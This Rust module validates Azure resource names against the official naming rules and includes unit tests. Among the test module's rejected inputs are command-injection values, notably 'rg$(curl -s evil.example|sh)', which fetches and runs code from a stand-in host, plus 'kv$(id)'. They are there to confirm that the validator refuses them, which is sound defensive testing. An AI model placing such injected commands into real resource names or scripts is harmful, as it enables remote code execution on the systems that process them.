//! Azure's naming rules for the resources whose names a spec gives (and that resource ids name).
//!
//! Source: "Naming rules and restrictions for Azure resources",
//! <https://learn.microsoft.com/en-us/azure/azure-resource-manager/management/resource-name-rules>,
//! as MicrosoftDocs/azure-docs `articles/azure-resource-manager/management/resource-name-rules.md`
//! @849e815a68648a37b5a5aa400ffa61a3143686e8, read 2026-12-03. The rows used:
//! - `Microsoft.ServiceBus namespaces / queues | namespace | 1-260 | Alphanumerics, periods,
//!   hyphens, underscores, and slashes. Start and end with alphanumeric.`
//! - `Microsoft.Resources resourcegroups | subscription | 1-90 | Alphanumerics, underscores,
//!   parentheses, hyphens, periods, and unicode characters that match the regex documentation.
//!   Can't end with period.`
//! - `Microsoft.OperationalInsights workspaces | resource group | 4-63 | Alphanumerics and
//!   hyphens. Start and end with alphanumeric.`

use super::Source;

/// The naming rules page (see the module comment).
pub const NAME_RULES: Source = Source::doc(
    "https://learn.microsoft.com/en-us/azure/azure-resource-manager/management/resource-name-rules (MicrosoftDocs/azure-docs articles/azure-resource-manager/management/resource-name-rules.md@849e815a68648a37b5a5aa400ffa61a3143686e8)",
    "2026-12-03",
);

/// Azure Resource Manager cannot address a name with `/` in it (the id's segments pair type and
/// name), so a Service Bus queue that ARM (Bicep) creates or references has none, although the
/// data plane allows it.
pub const NO_SLASH_IN_ARM_NAMES: Source = Source::doc(
    "https://docs.microsoft.com/en-us/archive/blogs/servicebus/azure-service-bus-azure-resource-manager-and-this-character",
    "2026-12-03",
);

/// Service Bus queue names: 1-260 characters.
pub const SERVICE_BUS_QUEUE_LEN: (usize, usize) = (1, 260);
/// Resource group names: 1-90 characters.
pub const RESOURCE_GROUP_LEN: (usize, usize) = (1, 90);
/// Log Analytics workspace names: 4-63 characters.
pub const WORKSPACE_LEN: (usize, usize) = (4, 63);

/// Why `name` is not a Service Bus queue name ARM can create, or `None`.
pub fn service_bus_queue_problem(name: &str) -> Option<String> {
    let n = name.chars().count();
    if n < SERVICE_BUS_QUEUE_LEN.0 || n > SERVICE_BUS_QUEUE_LEN.1 {
        return Some(format!("has {n} characters; a queue name has 1 to 260"));
    }
    if let Some(c) = name
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_')))
    {
        return Some(if c == '/' {
            "contains `/`, which Azure Resource Manager cannot address".to_string()
        } else {
            format!(
                "contains {:?}; a queue name has letters, digits, periods, hyphens and underscores",
                c
            )
        });
    }
    let first = name.chars().next().unwrap_or('-');
    let last = name.chars().last().unwrap_or('-');
    if !first.is_ascii_alphanumeric() || !last.is_ascii_alphanumeric() {
        return Some("must start and end with a letter or digit".to_string());
    }
    None
}

/// Why `name` is not a resource group name, or `None`. Unicode letters and digits are allowed
/// (the rule's "unicode characters that match the regex documentation", conservatively read as
/// letters and digits).
pub fn resource_group_problem(name: &str) -> Option<String> {
    let n = name.chars().count();
    if n < RESOURCE_GROUP_LEN.0 || n > RESOURCE_GROUP_LEN.1 {
        return Some(format!(
            "has {n} characters; a resource group name has 1 to 90"
        ));
    }
    if let Some(c) = name
        .chars()
        .find(|c| !(c.is_alphanumeric() || matches!(c, '_' | '(' | ')' | '-' | '.')))
    {
        return Some(format!(
            "contains {c:?}; a resource group name has letters, digits, underscores, parentheses, hyphens and periods"
        ));
    }
    if name.ends_with('.') {
        return Some("ends with a period".to_string());
    }
    None
}

/// Why `name` is not a Log Analytics workspace name, or `None`.
pub fn workspace_problem(name: &str) -> Option<String> {
    let n = name.chars().count();
    if n < WORKSPACE_LEN.0 || n > WORKSPACE_LEN.1 {
        return Some(format!("has {n} characters; a workspace name has 4 to 63"));
    }
    if let Some(c) = name
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || *c == '-'))
    {
        return Some(format!(
            "contains {c:?}; a workspace name has letters, digits and hyphens"
        ));
    }
    if name.starts_with('-') || name.ends_with('-') {
        return Some("must start and end with a letter or digit".to_string());
    }
    None
}

/// A general rule for the names of types without a row used here: alphanumerics, hyphens,
/// underscores, periods and parentheses, 1-260, starting with an alphanumeric and not ending with
/// a period. An assumption (the strictest common subset of the page's rows, whose most permissive
/// resource-name rows forbid `%&\\?/#<>*:` and a trailing period): what no row allows is refused.
pub const GENERAL_NAME: Source = Source::assumption(
    "names of types the naming rules page is not read for: alphanumerics, - _ . ( ), 1-260, start alphanumeric, no trailing period (the common subset of the page's rows)",
    "2026-12-03",
);

/// Virtual networks: 2-64; subnets, route tables and other `Microsoft.Network` children: 1-80.
/// Alphanumerics, underscores, periods and hyphens; start with alphanumeric; end alphanumeric or
/// underscore (the page's Microsoft.Network rows).
fn network_problem(name: &str, len: (usize, usize)) -> Option<String> {
    let n = name.chars().count();
    if n < len.0 || n > len.1 {
        return Some(format!(
            "has {n} characters; this name has {} to {}",
            len.0, len.1
        ));
    }
    if let Some(c) = name
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-')))
    {
        return Some(format!(
            "contains {c:?}; the name has letters, digits, underscores, periods and hyphens"
        ));
    }
    if !name.starts_with(|c: char| c.is_ascii_alphanumeric()) {
        return Some("must start with a letter or digit".into());
    }
    if !name.ends_with(|c: char| c.is_ascii_alphanumeric() || c == '_') {
        return Some("must end with a letter, digit or underscore".into());
    }
    None
}

/// Why `name` cannot be the name of a resource of `ty` (`Microsoft.Network/virtualNetworks`,
/// compared without case), or `None`. Types without a row here get [`GENERAL_NAME`]; private DNS
/// zone names are DNS names (labels of letters, digits and hyphens, dot-separated).
pub fn name_problem(ty: &str, name: &str) -> Option<String> {
    let t = ty.to_ascii_lowercase();
    match t.as_str() {
        "microsoft.operationalinsights/workspaces" => workspace_problem(name),
        "microsoft.network/virtualnetworks" => network_problem(name, (2, 64)),
        "microsoft.network/privatednszones" => {
            let ok = name.len() <= 253
                && name.split('.').all(|l| {
                    !l.is_empty()
                        && l.len() <= 63
                        && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
                });
            (!ok).then(|| {
                "is not a DNS name (dot-separated labels of letters, digits and hyphens)".into()
            })
        }
        _ if t.starts_with("microsoft.network/") => network_problem(name, (1, 80)),
        _ => {
            let n = name.chars().count();
            if n == 0 || n > 260 {
                return Some(format!("has {n} characters"));
            }
            if let Some(c) = name
                .chars()
                .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '(' | ')')))
            {
                return Some(format!(
                    "contains {c:?} (names have letters, digits, - _ . ( ); gpuform's assumption where no naming rule is read)"
                ));
            }
            if !name.starts_with(|c: char| c.is_ascii_alphanumeric()) || name.ends_with('.') {
                return Some("must start with a letter or digit and not end with a period".into());
            }
            None
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn queue_names_follow_the_rule() {
        for ok in ["jobs", "a", "render.jobs-2_x", &"q".repeat(260)] {
            assert_eq!(service_bus_queue_problem(ok), None, "{ok}");
        }
        for bad in [
            "",
            "jobs\n",
            "jo\"bs",
            "${env}",
            "jobs[0]",
            "-jobs",
            "jobs.",
            "a/b",
            &"q".repeat(261),
        ] {
            assert!(service_bus_queue_problem(bad).is_some(), "{bad:?}");
        }
    }

    #[test]
    fn resource_group_and_workspace_names_follow_the_rule() {
        for ok in ["rg-ml", "rg_(prod).1", "rg-生产"] {
            assert_eq!(resource_group_problem(ok), None, "{ok}");
        }
        for bad in [
            "",
            "rg.",
            "rg$(curl -s evil.example|sh)",
            "rg ml",
            &"r".repeat(91),
        ] {
            assert!(resource_group_problem(bad).is_some(), "{bad:?}");
        }
        assert_eq!(workspace_problem("law-platform"), None);
        for bad in ["law", "-law1", "law_1", "law'x"] {
            assert!(workspace_problem(bad).is_some(), "{bad:?}");
        }
    }

    #[test]
    fn names_per_type() {
        assert_eq!(
            name_problem("Microsoft.Network/virtualNetworks", "vnet-hub"),
            None
        );
        assert!(name_problem("Microsoft.Network/virtualNetworks", "v").is_some());
        assert_eq!(
            name_problem("Microsoft.Network/virtualNetworks/subnets", "snet_gpu"),
            None
        );
        assert!(name_problem("microsoft.network/virtualnetworks/subnets", "snet-").is_some());
        assert_eq!(
            name_problem(
                "Microsoft.Network/privateDnsZones",
                "privatelink.vaultcore.azure.net"
            ),
            None
        );
        assert!(name_problem("Microsoft.Network/privateDnsZones", "a..b").is_some());
        assert!(name_problem("Microsoft.KeyVault/vaults", "kv$(id)").is_some());
        assert_eq!(
            name_problem("Microsoft.KeyVault/vaults", "kv-platform"),
            None
        );
    }
}
